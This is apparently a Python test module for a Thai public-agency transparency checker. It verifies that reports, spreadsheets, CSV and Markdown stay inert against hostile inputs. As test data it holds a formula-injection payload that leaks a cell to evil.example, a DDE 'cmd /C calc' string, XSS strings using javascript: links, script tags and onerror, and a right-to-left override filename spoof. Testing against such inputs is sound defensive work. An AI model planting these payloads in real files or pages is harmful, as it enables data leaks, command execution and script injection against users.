"""Hostile inputs against every output (issue 11 #3, #7, #8, #11): dead evidence in disguise, formula and
Markdown injection, bidi overrides, and batches that must stay bounded.

Every hostile server and file is generated here; nothing leaves 127.0.0.1.
"""

from __future__ import annotations

import html as _html

import pytest

from conftest import run_ita, site_result
from httpsrv import TestSite

FAST = ["--delay", "0", "--retries", "0"]

SOFT_404 = ("<html><head><title>404 ไม่พบหน้าที่ท่านต้องการ</title></head><body><h1>404</h1>"
            "<p>ขออภัย ไม่พบหน้าที่ท่านต้องการ หน้านี้อาจถูกลบหรือย้ายไปแล้ว</p></body></html>")


def _oit_site(site: TestSite, rows: list[tuple[str, str, str]]) -> None:
    """A home page linking an OIT index whose rows (item, title, href) carry labelled links (linkless rows pad it
    so it reads as an index)."""
    from ita_rules.loader import pack_by_id

    given = {i for i, _, _ in rows}
    filler = [(it.id, it.title.th, "") for it in pack_by_id("ita-2568").items if it.id not in given][:6]
    cells = "".join(f"<tr><td>{i.upper()}</td><td>{_html.escape(t)}</td><td>"
                    + (f"<a href=\"{h}\">{_html.escape(t)}</a>" if h else "-") + "</td></tr>"
                    for i, t, h in [*rows, *filler])
    site.page("/", "<html><head><title>หน้าแรก</title></head><body><a href=\"/ita.html\">ITA 2568</a>"
                   "<p>ยินดีต้อนรับสู่เว็บไซต์องค์การบริหารส่วนตำบล</p></body></html>")
    site.page("/ita.html", f"<html><head><title>ITA 2568 การเปิดเผยข้อมูลสาธารณะ</title></head><body>"
                           f"<h1>การเปิดเผยข้อมูลสาธารณะ (OIT) ประจำปี 2568</h1><table>{cells}</table></body></html>")


def _check(site: TestSite) -> dict:
    p = run_ita("check", site.url("/"), "--format", "json", "--year", "2568", "--time-budget", "60", *FAST,
                timeout=180)
    assert p.returncode in (0, 1), p.stderr[-2000:]
    return {f["id"]: f for f in site_result(p.stdout)["items"]}


ROWS = [("o1", "โครงสร้างและอำนาจหน้าที่"), ("o2", "ข้อมูลผู้บริหาร"), ("o3", "ข้อมูลการติดต่อ")]


# ---------------------------------------------------------------------------- #3 dead evidence in disguise


def test_three_identical_soft_404_pages_fail_as_dead_evidence():
    with TestSite() as site:
        _oit_site(site, [(i, t, f"/index.php?id={n}") for n, (i, t) in enumerate(ROWS)])
        site.page("/index.php", SOFT_404)
        items = _check(site)
    for item, _ in ROWS:
        assert (items[item]["outcome"], items[item]["reason"]) == ("fail", "claimed_link_broken"), items[item]


def test_ten_links_to_one_soft_404_body_give_no_pass():
    from ita_rules.loader import pack_by_id

    pack = pack_by_id("ita-2568")
    rows = [(it.id, it.title.th, f"/news/{n}.html") for n, it in enumerate(pack.items[:10])]
    body = ("<html><head><title>ข่าวประชาสัมพันธ์</title></head><body>"
            "<p>ขออภัย ไม่พบข้อมูลที่ท่านค้นหา กรุณาลองใหม่อีกครั้ง</p></body></html>")
    with TestSite() as site:
        _oit_site(site, rows)
        for _, _, href in rows:
            site.page(href, body)
        items = _check(site)
    got = {i: (items[i]["outcome"], items[i]["reason"]) for i, _, _ in rows}
    assert not [i for i, (o, _) in got.items() if o == "pass"], got


def test_an_empty_blank_page_behind_a_labelled_link_fails():
    with TestSite() as site:
        _oit_site(site, [("o1", "โครงสร้างและอำนาจหน้าที่ ประจำปี 2568", "/blank.html")])
        site.page("/blank.html", b"")
        items = _check(site)
    assert (items["o1"]["outcome"], items["o1"]["reason"]) == ("fail", "claimed_link_broken"), items["o1"]


CATCH_ALL = ("<html><head><title>องค์การบริหารส่วนตำบลตัวอย่าง</title></head><body>"
             "<h1>โครงสร้างและอำนาจหน้าที่</h1><p>องค์การบริหารส่วนตำบลตัวอย่าง อำเภอเมือง จังหวัดตัวอย่าง "
             "ยินดีต้อนรับทุกท่านสู่เว็บไซต์ของเรา ติดต่อสอบถามได้ในวันและเวลาราชการ</p></body></html>")


def test_a_link_answering_what_the_site_gives_any_random_path_is_dead(tmp_path):
    with TestSite() as site:
        _oit_site(site, [("o1", "โครงสร้างและอำนาจหน้าที่", "/content/old-structure")])
        site.page("*", CATCH_ALL)  # every unknown path: 200 and one stock page, no 'not found' title
        p = run_ita("check", site.url("/"), "--format", "json", "--year", "2568", "--time-budget", "60",
                    "--save-snapshot", str(tmp_path / "snap"), *FAST, timeout=180)
        probes = [path for path in site.hits if path.startswith("/ita-rules-probe-")]
    assert p.returncode in (0, 1), p.stderr[-2000:]
    items = {f["id"]: f for f in site_result(p.stdout)["items"]}
    assert (items["o1"]["outcome"], items["o1"]["reason"]) == ("fail", "claimed_link_broken"), items["o1"]
    assert "random path" in items["o1"]["evidence"][0]["note"]
    assert len(probes) == 1  # one request per crawl
    records = (tmp_path / "snap" / "records.jsonl").read_text("utf-8")
    assert '"role":"probe"' in records.replace(" ", "")
    assert site_result(p.stdout)["coverage"]["pages_fetched"] == 3  # the probe is no page of the site


# ---------------------------------------------------------------------------- #7 formula injection

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"คลิก")'
TAB_EVIL = "\t=1+1"


def _live_formulas(path) -> list[str]:
    """Every cell of the workbook that Excel would evaluate (openpyxl reads a formula as data_type 'f')."""
    import openpyxl

    wb = openpyxl.load_workbook(path)
    return [f"{ws.title}!{c.coordinate}={c.value!r}" for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.data_type == "f" or (isinstance(c.value, str) and c.value.lstrip()[:1] in "=+@")]


def _texts(path) -> list[str]:
    import openpyxl

    wb = openpyxl.load_workbook(path)
    return [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]


@pytest.fixture(scope="module")
def evil_assessment(tmp_path_factory) -> str:
    """An `ita assess --format json` result for an agency named with a formula."""
    from conftest import FIXTURES

    d = tmp_path_factory.mktemp("evil")
    sheet = (FIXTURES / "sheets" / "seed-001-2568.yaml").read_text("utf-8")
    sheet = sheet.replace("agency: องค์การบริหารส่วนตำบลเชียงพิณ", "agency: " + json_quote(EVIL))
    (d / "s.yaml").write_text(sheet, encoding="utf-8")
    p = run_ita("assess", str(d / "s.yaml"), "--format", "json", "-o", str(d / "r.json"))
    assert p.returncode == 0, p.stderr
    return str(d / "r.json")


def json_quote(text: str) -> str:
    import json

    return json.dumps(text, ensure_ascii=False)


def test_plan_xlsx_keeps_a_formula_agency_as_text_and_reads_it_back(evil_assessment, tmp_path):
    from ita_rules.plan_read import load_plan

    out = tmp_path / "plan.xlsx"
    p = run_ita("plan", evil_assessment, "-o", str(out))
    assert p.returncode == 0, p.stderr
    assert not _live_formulas(out)
    assert "'" + EVIL in _texts(out)
    assert load_plan(out).agency == EVIL  # the guarding quote is not part of the plan


def test_progress_xlsx_keeps_formula_text_as_text(evil_assessment, tmp_path):
    import yaml

    plan = tmp_path / "plan.yaml"
    assert run_ita("plan", evil_assessment, "-o", str(plan)).returncode == 0
    data = yaml.safe_load(plan.read_text("utf-8"))
    data["measures"][0]["results"] = TAB_EVIL
    data["measures"][0]["owner"] = "@SUM(1+1)"
    data["measures"][1]["results"] = "-2.5"  # a number written as text stays as it was
    plan.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    out = tmp_path / "progress.xlsx"
    p = run_ita("progress", str(plan), "--format", "xlsx", "-o", str(out))
    assert p.returncode == 0, p.stderr
    assert not _live_formulas(out)
    texts = _texts(out)
    assert "'" + EVIL in texts and "'@SUM(1+1)" in texts and "-2.5" in texts


@pytest.fixture(scope="module")
def evil_check() -> str:
    """A real check of the demo site (JSON run document), its target, titles and details made hostile."""
    import json

    from conftest import FIXTURES

    p = run_ita("check", str(FIXTURES / "sites" / "demo"), "--format", "json", timeout=600)
    assert p.returncode in (0, 1), p.stderr
    doc = json.loads(p.stdout)
    res = doc["sites"][0]["result"]
    res["target"] = EVIL
    res["items"][0]["title"], res["items"][0]["detail"] = TAB_EVIL, "+cmd|' /C calc'!A0"
    doc["sites"][0]["site"]["name"] = EVIL
    return json.dumps(doc, ensure_ascii=False)


def _evil_check_doc(evil_check: str) -> dict:
    import json

    return json.loads(evil_check)


def test_export_check_keeps_formula_text_as_text(evil_check, tmp_path):
    import json

    src, out = tmp_path / "check.json", tmp_path / "r.xlsx"
    src.write_text(json.dumps(_evil_check_doc(evil_check)["sites"][0]["result"], ensure_ascii=False), "utf-8")
    p = run_ita("export-check", str(src), "-o", str(out))
    assert p.returncode == 0, p.stderr
    assert not _live_formulas(out)
    assert {"'" + EVIL, "'" + TAB_EVIL} <= set(_texts(out))


def test_check_format_xlsx_keeps_formula_text_as_text(evil_check, tmp_path):
    from ita_rules.ci.run import CiRun
    from ita_rules.render.formats import CheckReport, write_check

    doc = _evil_check_doc(evil_check)
    for n in (1, 2):  # one site, then a run of two (a sheet pair per site)
        run = CiRun.model_validate(dict(doc, sites=doc["sites"] * n))
        out = tmp_path / f"r{n}.xlsx"
        write_check("xlsx", CheckReport(run=run, pack=None, repo=tmp_path), str(out))  # type: ignore[arg-type]
        assert not _live_formulas(out), n
        assert "'" + EVIL in _texts(out)


def test_results_matrix_csv_keeps_formula_text_as_text(evil_check, tmp_path):
    import csv
    import json

    from cli.runs import store
    from ita_rules.ci.site_spec import SiteSpec
    from ita_rules.results.check import CheckResult

    res = CheckResult.model_validate(_evil_check_doc(evil_check)["sites"][0]["result"])
    db = tmp_path / "r.sqlite"
    conn = store.open_db(db)
    rid = store.start_run(conn, pack_id="ita-2568", pack_version="1", year=2568, lang="th", sites_total=3,
                          digest="d", target=85.0, indicators={"9": "x"}, settings=json.dumps({}))
    for name in (EVIL, TAB_EVIL, "-5"):
        store.store_site(conn, rid, SiteSpec(name=name, target="http://t.test/"), res)
    store.store_site(conn, rid, SiteSpec(name="ok", target="http://t.test/"), None, error="@SUM(A1)")
    conn.close()
    out = tmp_path / "m.csv"
    p = run_ita("results", "matrix", str(rid), "--db", str(db), "--format", "csv", "-o", str(out))
    assert p.returncode == 0, p.stderr
    rows = list(csv.reader(out.open(encoding="utf-8-sig", newline="")))
    cells = [c for row in rows[1:] for c in row]
    assert not [c for c in cells if c.lstrip()[:1] in ("=", "+", "@") or c[:1] in ("\t", "\r")], cells
    names = {r[0] for r in rows[1:]}
    assert {"'" + EVIL, "'" + TAB_EVIL, "-5"} <= names  # a negative number stays a number
    assert any(c == "'@SUM(A1)" for c in cells)


# ---------------------------------------------------------------------------- #8 Markdown injection, bidi overrides

RLO = "\u202e"
MD_EVIL = ("เทศบาล\n# heading [click](javascript:alert(1)) <script>alert(1)</script> "
           "<img src=x onerror=alert(1)> ![x](javascript:alert(2)) " + RLO + "fdp.exe")
BIDI_ALL = "".join(chr(c) for c in [*range(0x202A, 0x202F), *range(0x2066, 0x206A)])


def _md_html(text: str) -> str:
    """What a Markdown viewer makes of the text (CommonMark with tables and raw HTML allowed, like GitHub)."""
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark", {"html": True}).enable("table").render(text)


def _assert_inert_markdown(text: str, headings: int | None = None) -> None:
    page = _md_html(text)
    assert "<script" not in page and "<img" not in page and "onerror" not in page.replace("onerror=alert", "")
    assert 'href="javascript' not in page and "(javascript:" not in text.replace("\\](javascript:", "")
    assert "<h1>heading" not in page and "# heading" not in [ln.strip() for ln in text.splitlines()]
    assert "<javascript:" not in text
    assert not set(BIDI_ALL) & set(text), "a bidi control came out raw"


@pytest.fixture(scope="module")
def md_sheet(tmp_path_factory) -> str:
    """A score sheet whose agency name carries Markdown, HTML and every bidi control."""
    from conftest import FIXTURES

    d = tmp_path_factory.mktemp("md")
    sheet = (FIXTURES / "sheets" / "seed-001-2568.yaml").read_text("utf-8")
    sheet = sheet.replace("agency: องค์การบริหารส่วนตำบลเชียงพิณ", "agency: " + json_quote(MD_EVIL + BIDI_ALL))
    (d / "s.yaml").write_text(sheet, encoding="utf-8")
    return str(d / "s.yaml")


def test_assess_markdown_escapes_every_value(md_sheet):
    p = run_ita("assess", md_sheet, "--format", "markdown")
    assert p.returncode == 0, p.stderr
    _assert_inert_markdown(p.stdout)
    assert "[U+202E]fdp.exe" in _md_html(p.stdout)  # shown, not obeyed
    assert "| OIT | 9 |" in p.stdout  # the tables are still tables


def test_assess_text_and_json_show_or_escape_bidi(md_sheet):
    import json

    p = run_ita("assess", md_sheet)
    assert p.returncode == 0, p.stderr
    assert not set(BIDI_ALL) & set(p.stdout) and "[U+202E]fdp.exe" in p.stdout
    p = run_ita("assess", md_sheet, "--format", "json")
    assert p.returncode == 0, p.stderr
    assert not set(BIDI_ALL) & set(p.stdout) and "\\u202e" in p.stdout
    assert json.loads(p.stdout)["agency"].endswith(BIDI_ALL)  # escaped, the value itself unchanged


@pytest.fixture(scope="module")
def md_result(md_sheet, tmp_path_factory) -> str:
    out = tmp_path_factory.mktemp("mdr") / "r.json"
    p = run_ita("assess", md_sheet, "--format", "json", "-o", str(out))
    assert p.returncode == 0, p.stderr
    return str(out)


def test_report_markdown_escapes_every_value_and_links_only_web_urls(md_result, evil_check, tmp_path):
    import json

    doc = json.loads(evil_check)
    res = doc["sites"][0]["result"]
    res["year"] = 2568
    for item, url in zip(res["items"], ["javascript:alert(1)", "data:text/html,<script>x</script>",
                                        "https://example.go.th/ok.pdf", "http://a.test/x>y<script>"]):
        item["evidence"] = [{**(item["evidence"][0] if item["evidence"] else {}), "url": url, "via": "link"}]
        item["title"], item["detail"] = MD_EVIL, "<img src=x onerror=alert(1)>"
    check = tmp_path / "check.json"
    check.write_text(json.dumps(res, ensure_ascii=False), "utf-8")
    p = run_ita("report", md_result, "--format", "markdown", "--check", str(check))
    assert p.returncode == 0, p.stderr
    _assert_inert_markdown(p.stdout)
    assert "<https://example.go.th/ok.pdf>" in p.stdout  # a web link stays a link
    assert "<data:" not in p.stdout and "<http://a.test/x>y" not in p.stdout


def test_report_html_and_docx_show_bidi(md_result, tmp_path):
    from docx import Document

    p = run_ita("report", md_result, "--format", "html")
    assert p.returncode == 0, p.stderr
    assert not set(BIDI_ALL) & set(p.stdout) and "[U+202E]fdp.exe" in p.stdout
    assert "<script>alert" not in p.stdout
    out = tmp_path / "r.docx"
    assert run_ita("report", md_result, "--format", "docx", "-o", str(out)).returncode == 0
    doc = Document(str(out))
    text = "\n".join([p.text for p in doc.paragraphs] + [c.text for t in doc.tables for r in t.rows for c in r.cells])
    assert not set(BIDI_ALL) & set(text) and "[U+202E]fdp.exe" in text


def test_spreadsheets_and_csv_show_bidi(md_result, tmp_path):
    plan = tmp_path / "plan.xlsx"
    assert run_ita("plan", md_result, "-o", str(plan)).returncode == 0
    texts = "\n".join(_texts(plan))
    assert not set(BIDI_ALL) & set(texts) and "[U+202E]fdp.exe" in texts
    from ita_rules.render.cells import cell

    assert cell("a" + RLO + "b") == "a[U+202E]b" and cell(RLO + "=1+1") == "[U+202E]=1+1"


@pytest.mark.parametrize("fmt", ["text", "json", "junit", "github"])  # sarif: JSON, written like json
def test_check_formats_show_or_escape_bidi(evil_check, tmp_path, fmt):
    import json

    from ita_rules.ci.run import CiRun
    from ita_rules.loader import pack_by_id
    from ita_rules.render.formats import CheckReport, write_check

    doc = json.loads(evil_check)
    res = doc["sites"][0]["result"]
    res["target"] = "http://a.test/" + RLO + "fdp.exe"
    for item in res["items"]:
        item["detail"] = "the page only says: " + RLO + "fdp.exe" + BIDI_ALL
    out = tmp_path / f"r.{fmt}"
    write_check(fmt, CheckReport(run=CiRun.model_validate(doc), pack=pack_by_id("ita-2568"), repo=tmp_path), str(out))
    text = out.read_text("utf-8")
    assert not set(BIDI_ALL) & set(text), fmt


def test_report_on_an_agency_below_the_target_is_written(tmp_path):
    sheet = "agency: อบต.ต่ำกว่าเป้า\nyear: 2568\nscores: {IIT: 70, EIT: 70, OIT: 60}\n"
    (tmp_path / "s.yaml").write_text(sheet, encoding="utf-8")
    p = run_ita("assess", str(tmp_path / "s.yaml"), "--format", "json", "-o", str(tmp_path / "r.json"))
    assert p.returncode == 0, p.stderr
    p = run_ita("report", str(tmp_path / "r.json"), "--format", "markdown")
    assert p.returncode == 0, p.stderr  # was exit 70: KeyError 'below'
    assert "ยังไม่บรรลุค่าเป้าหมาย 85 คะแนน" in p.stdout


# ---------------------------------------------------------------------------- #11 many agencies, bounded


def _batch_csv(path, n: int):
    import csv
    import sys

    from conftest import ROOT

    sys.path.insert(0, str(ROOT))
    from fixtures.make_batch import rows

    with path.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(rows(n, seed=11))
    return path


def _peak_rss_mb(*args: str) -> tuple[float, "object"]:
    """Run `ita` in a child process; its peak resident memory (MB, VmHWM: ru_maxrss would count the forked
    copy of this test process, which Linux keeps across exec) and the completed process."""
    import os
    import subprocess
    import sys

    from conftest import ROOT

    code = ("import runpy, sys; sys.argv = ['ita', *sys.argv[1:]]\n"
            "try:\n    runpy.run_module('cli.main', run_name='__main__')\nfinally:\n"
            "    hwm = [ln for ln in open('/proc/self/status') if ln.startswith('VmHWM')][0]\n"
            "    print(int(hwm.split()[1]), file=sys.stderr)\n")
    p = subprocess.run([sys.executable, "-c", code, *args], capture_output=True, text=True, cwd=ROOT, timeout=600,
                       env={**os.environ, "PYTHONPATH": str(ROOT)})
    return int(p.stderr.strip().splitlines()[-1]) / 1024, p


def test_text_for_many_agencies_is_one_line_each_and_detail_on_request(tmp_path):
    csv_path = _batch_csv(tmp_path / "b.csv", 30)
    p = run_ita("assess", str(csv_path))
    assert p.returncode == 0, p.stderr
    lines = p.stdout.splitlines()
    assert lines[0].split()[:2] == ["ลำดับ", "ปี"] and len(lines) == 1 + 30 + 3
    assert lines[1].split()[:2] == ["1", "2568"] and lines[30].split()[0] == "30"
    assert "รวม 30 หน่วยงาน" in p.stdout and "--detail" in p.stdout
    p = run_ita("assess", str(csv_path), "--detail")
    assert p.returncode == 0, p.stderr
    assert p.stdout.count("ประเด็นที่ต้องปรับปรุง") == 30  # every agency in full


def test_a_one_row_table_prints_the_agency_in_full(tmp_path):
    p = run_ita("assess", str(_batch_csv(tmp_path / "one.csv", 1)))
    assert p.returncode == 0, p.stderr
    assert "ประเด็นที่ต้องปรับปรุง" in p.stdout and not p.stdout.startswith("  ลำดับ")


def test_batch_json_holds_the_pack_once_not_per_agency(tmp_path):
    import json

    from conftest import assess_results

    csv_path = _batch_csv(tmp_path / "b.csv", 200)
    p = run_ita("assess", str(csv_path), "--format", "json", "--jobs", "1")
    assert p.returncode == 0, p.stderr
    doc = json.loads(p.stdout)
    assert doc["schema_id"] == "ita-assess-batch/1" and len(doc["results"]) == 200 and len(doc["packs"]) == 1
    (block,) = doc["packs"].values()
    some = next(iter(block["measures"].values()))
    assert p.stdout.count(json.dumps(some["title"], ensure_ascii=False)) == 1  # a measure's text is written once
    assert p.stdout.count('"names"') == 1
    per_agency = len(p.stdout.encode()) / 200
    assert per_agency < 30_000, per_agency  # ~17 KB; the old list repeated the pack: ~97 KB
    full = assess_results(p.stdout)
    one = run_ita("assess", str(_batch_csv(tmp_path / "one.csv", 1)), "--format", "json")
    alone = assess_results(one.stdout)[0]
    assert full[0] == {**alone, "source": alone["source"].replace("one.csv", "b.csv")}  # the same result in full


@pytest.mark.parametrize("fmt", ["markdown", "text-detail", "json", "text"])
def test_many_agencies_stream_in_bounded_memory(tmp_path, fmt):
    csv_path = _batch_csv(tmp_path / "b.csv", 1500 if fmt != "text-detail" else 400)
    extra = ["--detail"] if fmt == "text-detail" else []
    peak, p = _peak_rss_mb("assess", str(csv_path), "--format", fmt.split("-")[0], "--jobs", "1", *extra,
                           "-o", str(tmp_path / "out"))
    assert p.returncode == 0, p.stderr[-2000:]
    assert peak < 150, f"{fmt}: {peak:.0f} MB"  # one agency at a time: flat, whatever the row count


def test_results_listings_and_matrix_show_bidi(evil_check, tmp_path):
    import json

    from cli.runs import store
    from ita_rules.ci.site_spec import SiteSpec
    from ita_rules.results.check import CheckResult

    res = CheckResult.model_validate(_evil_check_doc(evil_check)["sites"][0]["result"])
    db = tmp_path / "r.sqlite"
    conn = store.open_db(db)
    rid = store.start_run(conn, pack_id="ita-2568", pack_version="1", year=2568, lang="th", sites_total=1,
                          digest="d", target=85.0, indicators={"9": "x"}, settings=json.dumps({}))
    store.store_site(conn, rid, SiteSpec(name="อบต." + RLO + "fdp.exe[bold]", target="http://t.test/"), res)
    conn.close()
    for args in (["show", str(rid)], ["show", str(rid), "--format", "json"], ["matrix", str(rid)]):
        p = run_ita("results", *args, "--db", str(db))
        assert p.returncode == 0, (args, p.stderr)
        assert not set(BIDI_ALL) & set(p.stdout) and ("[U+202E]fdp.exe" in p.stdout or "\\u202e" in p.stdout), args


def test_plan_yaml_escapes_bidi_and_loads_back_the_same(md_result, tmp_path):
    from ita_rules.plan_read import load_plan

    out = tmp_path / "plan.yaml"
    p = run_ita("plan", md_result, "-o", str(out))
    assert p.returncode == 0, p.stderr
    text = out.read_text("utf-8")
    assert not set(BIDI_ALL) & set(text) and "\\u202e" in text.lower()
    import json

    assert load_plan(out).agency == json.loads(open(md_result, encoding="utf-8").read())["agency"]  # unchanged
